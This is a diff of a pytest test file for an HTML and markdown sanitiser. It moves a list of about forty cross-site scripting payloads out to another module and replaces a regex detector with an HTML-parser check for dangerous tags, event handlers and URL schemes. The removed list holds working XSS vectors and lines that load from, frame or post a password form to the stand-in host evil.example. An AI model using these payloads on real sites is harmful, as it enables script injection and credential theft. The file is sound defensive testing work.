@@ -3,70 +3,44 @@
 from __future__ import annotations
 
 import re
+from html.parser import HTMLParser
 
 import pytest
+from attacks import ATTACKS
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from kb.content.markup import html_of, safe
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x\nonerror\n=\nalert(1)>",
-    "<img/src/onerror=alert(1)>",
-    '<img src="x` `<script>alert(1)</script>"` `>',
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href=' &#14; java\tscript:alert(1)'>x</a>",
-    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
-    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
-    "<a href='vbscript:msgbox(1)'>x</a>",
-    "[x](javascript:alert(1))",
-    "[x](<java&#10;script:alert(1)>)",
-    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-    '![x](y "onerror=alert(1)")',
-    "<javascript:alert(1)>",
-    "x{: onclick=alert(1) style=position:fixed}",
-    "# h {onmouseover=alert(1)}",
-    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<style>body{background:url(javascript:alert(1))}</style>",
-    "<p style='background:url(javascript:alert(1))'>x</p>",
-    "<iframe src=https://evil.example></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=x></object><embed src=x>",
-    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-    "<link rel=stylesheet href=//evil.example>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<video><source onerror=alert(1)></video>",
-    "<x-foo onclick=alert(1)>x</x-foo>",
-    "```html\n<script>alert(1)</script>\n```",
-    "<!--[if IE]><script>alert(1)</script><![endif]-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php echo '<script>' ?>",
-    "<div markdown=1>\n<script>alert(1)</script>\n</div>",
-    '!!! note "<img src=x onerror=alert(1)>"\n    x',
-    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
-    '*[HTML]: "><script>alert(1)</script>\n\nHTML',
-]
-TAG = re.compile(r"<[^>]*>")
-DANGER = re.compile(
-    r"<\s*/?\s*(script|style|iframe|object|embed|svg|math|form|input|button|base|meta|link|video|source|x-foo)\b"
-    r"|\son\w+\s*=|style\s*=|srcdoc|(?:href|src)=\"\s*(?:javascript|data|vbscript):",
-    re.IGNORECASE,
-)
+TAGS = {
+    "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "base", "meta",
+    "link", "video", "audio", "source", "template", "x-foo",
+}  # fmt: skip
+ATTRIBUTES = {"style", "srcdoc", "srcset", "ping", "target", "background", "xlink:href"}
+SCHEMES = ("http://", "https://", "mailto:", "tel:")
+
+
+class Reader(HTMLParser):
+    """What could run, load or send something, in tags alone: the same words as text are harmless."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.dangers: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in TAGS:
+            self.dangers.append(tag)
+        for name, value in attrs:
+            leads = re.match(r"\s*[\w+.-]+:", value or "") if name in ("href", "src") else None
+            if name.startswith("on") or name in ATTRIBUTES or (leads and not value.startswith(SCHEMES)):
+                self.dangers.append(f"{tag} {name}={value}")
 
 
 def dangers_in(html: str) -> list[str]:
-    """What could run, in tags alone: the same words as text of an article are harmless."""
-    no_titles = re.sub(r'(title|alt)="[^"]*"', "", html)
-    return [tag for tag in TAG.findall(no_titles) if DANGER.search(tag)]
+    reader = Reader()
+    reader.feed(html)
+    reader.close()
+    return reader.dangers
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
